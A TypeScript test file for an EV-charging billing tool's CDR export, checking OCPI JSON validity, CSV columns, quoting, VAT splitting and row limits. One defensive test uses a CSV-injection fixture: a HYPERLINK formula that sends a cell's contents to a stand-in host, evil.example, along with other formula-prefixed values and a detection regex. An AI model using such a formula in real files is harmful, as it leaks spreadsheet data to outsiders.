import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { creditCdrFrom } from '../../domain/cdr/credit.js';
import { sampleCdr, sampleIssued, sampleTariff } from '../../domain/cdr/fixtures.js';
import type { OcpiCdr } from '../../domain/cdr/ocpi.js';
import { cdrSchema } from '../../ocpi/schemas/index.js';
import { cdrCsvColumns, cdrsAsCsv, cdrsAsOcpiJson, tariffVersionParts, type CdrExportRow } from './cdr-export.js';
import { theirSummaries } from './settlement-statement.js';

const row = (cdr: OcpiCdr, tariffVersionId: string | null = 'T-STD@3'): CdrExportRow => ({
  cdr_id: cdr.id,
  transaction_id: 'tx-1',
  tenant_id: 'acme',
  emsp: `${cdr.cdr_token.country_code}-${cdr.cdr_token.party_id}`,
  start_date_time: new Date(cdr.start_date_time),
  end_date_time: new Date(cdr.end_date_time),
  tariff_version_id: tariffVersionId,
  replaces_cdr_id: null,
  cdr_json: JSON.stringify(cdr),
});
const csvRecords = (text: string) => parse(text, { columns: true }) as Record<string, string>[];

describe('cdr export --format ocpi', () => {
  it('emits CDRs valid against the OCPI 2.2.1 CDR schema, money and volumes as JSON numbers', () => {
    // The fixture's tariff snapshot lacks the party fields OCPI requires of a Tariff.
    const tariffs = [{ ...sampleTariff, country_code: 'NL', party_id: 'CPO' }];
    const credit = creditCdrFrom(sampleIssued({ tariffs }), 'CDR-1-C', '2025-03-05T09:00:00Z').cdr;
    const exported = JSON.parse(cdrsAsOcpiJson([row(sampleCdr({ tariffs })), row(credit)])) as Record<string, unknown>[];
    expect(exported).toHaveLength(2);
    for (const cdr of exported) expect(cdrSchema.safeParse(cdr).error).toBeUndefined();
    expect(exported[0]).toMatchObject({ total_cost: { excl_vat: 7, incl_vat: 8.47 }, total_energy: 20, total_time: 1, charging_periods: [{ dimensions: [{ volume: 20 }] }] });
    expect(exported[1]).toMatchObject({ credit: true, credit_reference_id: 'CDR-1', total_cost: { excl_vat: -7, incl_vat: -8.47 } });
    expect(cdrsAsOcpiJson([])).toBe('[]');
  });

  it('refuses, naming the CDR, one that fails the schema or a figure a JSON number would change', () => {
    expect(() => cdrsAsOcpiJson([row(sampleCdr())])).toThrow(/CDR CDR-1 fails the OCPI 2.2.1 CDR schema: tariffs.0.country_code/);
    expect(() => cdrsAsOcpiJson([row(sampleCdr({ total_energy: '0.10000000000000000001' }))])).toThrow(/total_energy .* cannot be sent as a JSON number/);
  });
});

describe('cdr export --format csv', () => {
  it('writes the header and, per CDR, VAT, the cost parts, token, location and tariff version', () => {
    const parking = { total_parking_cost: { excl_vat: '0.50', incl_vat: '0.61' }, total_parking_time: '0.25' };
    const [record] = csvRecords(cdrsAsCsv([row(sampleCdr(parking))]));
    expect(cdrsAsCsv([]).trimEnd()).toBe(cdrCsvColumns.join(','));
    expect(record).toEqual({
      cdr_id: 'CDR-1', session_id: 'S-1', start_date_time: '2025-03-01T10:00:00.000Z', end_date_time: '2025-03-01T11:00:00.000Z',
      emsp: 'DE-EMP', currency: 'EUR', total_cost_excl_vat: '7.00', total_cost_incl_vat: '8.47', total_energy_kwh: '20', total_time_h: '1',
      credit: 'false', credit_reference_id: '',
      vat_amount: '1.47', vat_rate_percent: '21', vat_per_rate: '',
      energy_cost_excl_vat: '6.00', energy_cost_incl_vat: '7.26', time_cost_excl_vat: '', time_cost_incl_vat: '',
      parking_cost_excl_vat: '0.50', parking_cost_incl_vat: '0.61', fixed_cost_excl_vat: '1.00', fixed_cost_incl_vat: '1.21',
      reservation_cost_excl_vat: '', reservation_cost_incl_vat: '', total_parking_time_h: '0.25',
      token_uid: '012345678', token_type: 'RFID', contract_id: 'DE-EMP-C12345678-X', token_party: 'DE-EMP',
      location_id: 'LOC-1', evse_uid: 'EVSE-1', evse_id: 'NL*CPO*E1', connector_id: '1',
      tariff_id: 'T-STD', tariff_version: '3',
    });
  });

  it('quotes cells holding a comma, a quote or a line break, so they read back unchanged', () => {
    const cdr = sampleCdr({ cdr_token: { ...sampleCdr().cdr_token, uid: 'A,"B"', contract_id: 'line\nbreak' }, cdr_location: { ...sampleCdr().cdr_location, id: 'LOC\r1' } });
    const text = cdrsAsCsv([row(cdr)]);
    expect(text.split('\n')[1]).toContain('"A,""B"""');
    expect(csvRecords(text)[0]).toMatchObject({ token_uid: 'A,"B"', contract_id: 'line\nbreak', location_id: 'LOC\r1' });
  });

  it('defuses spreadsheet formulas in cells partners and stations write (OWASP CSV injection); numbers stay numbers', () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const cdr = sampleCdr({
      cdr_token: { ...sampleCdr().cdr_token, uid: formula, contract_id: '@SUM(1+1)' },
      cdr_location: { ...sampleCdr().cdr_location, id: '+LOC', evse_uid: '-2+3', evse_id: '\tNL*CPO*E1', connector_id: '\r1' },
    });
    const [record] = csvRecords(cdrsAsCsv([row(cdr)]));
    expect(record).toMatchObject({
      token_uid: `'${formula}`,
      contract_id: "'@SUM(1+1)",
      location_id: "'+LOC",
      evse_uid: "'-2+3",
      evse_id: "'\tNL*CPO*E1",
      connector_id: "'\r1",
    });
    // Every cell of the record: none starts a formula.
    expect(Object.values(record!).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    // A statement built from this export reads the ids back as issued (settlement reconcile --their).
    const oddIds = sampleCdr({ id: '=CDR-1', session_id: '@S-1' });
    expect(theirSummaries(cdrsAsCsv([row(oddIds)]))[0]).toMatchObject({ cdrId: '=CDR-1', sessionId: '@S-1' });
    // A credit CDR's negative amounts are numbers, not formulas: left as they are.
    const credit = csvRecords(cdrsAsCsv([row(creditCdrFrom(sampleIssued(), 'CDR-1-C', '2025-03-05T09:00:00Z').cdr)]))[0]!;
    expect(credit).toMatchObject({ total_cost_excl_vat: '-7.00', total_cost_incl_vat: '-8.47', vat_amount: '-1.47', energy_cost_excl_vat: '-6.00' });
  });

  it('splits VAT per rate when the cost parts carry different rates', () => {
    const tariff = { ...sampleTariff, elements: [{ price_components: [{ type: 'FLAT', price: 1, vat: 9, step_size: 1 }, { type: 'ENERGY', price: 0.3, vat: 21, step_size: 1 }] }] };
    const cdr = sampleCdr({ tariffs: [tariff], total_cost: { excl_vat: '7.00', incl_vat: '8.35' }, total_fixed_cost: { excl_vat: '1.00', incl_vat: '1.09' } });
    expect(csvRecords(cdrsAsCsv([row(cdr)]))[0]).toMatchObject({ vat_amount: '1.35', vat_rate_percent: '9;21', vat_per_rate: '9:0.09;21:1.26' });
  });

  it('leaves VAT rate and tariff version empty where the CDR does not record them', () => {
    const free = sampleCdr({ tariffs: undefined, total_cost: { excl_vat: '0.00' }, total_fixed_cost: undefined, total_energy_cost: undefined });
    expect(csvRecords(cdrsAsCsv([row(free, null)]))[0]).toMatchObject({ total_cost_incl_vat: '', vat_amount: '', vat_rate_percent: '', tariff_id: '', tariff_version: '' });
  });

  it('reads a tariff version id at its last "@"', () => {
    expect(tariffVersionParts('STD@12')).toEqual({ tariffId: 'STD', version: '12' });
    expect(tariffVersionParts('a@b@2')).toEqual({ tariffId: 'a@b', version: '2' });
    expect(tariffVersionParts(null)).toEqual({ tariffId: '', version: '' });
  });
});

describe('billing reads larger than the limit', () => {
  it('are refused with what to do (exit 3), never cut silently', async () => {
    const { rowsWithinLimit } = await import('./billing.js');
    const { CliError } = await import('./run.js');
    expect(rowsWithinLimit([1, 2, 3], 'CDRs in the range', 'export it in parts with --from/--to', 3)).toEqual([1, 2, 3]);
    expect(() => rowsWithinLimit([1, 2, 3, 4], 'CDRs in the range', 'export it in parts with --from/--to', 3)).toThrow(CliError);
    expect(() => rowsWithinLimit([1, 2, 3, 4], 'CDRs in the range', 'export it in parts with --from/--to', 3)).toThrow(
      'more than 3 CDRs in the range: export it in parts with --from/--to',
    );
  });
});
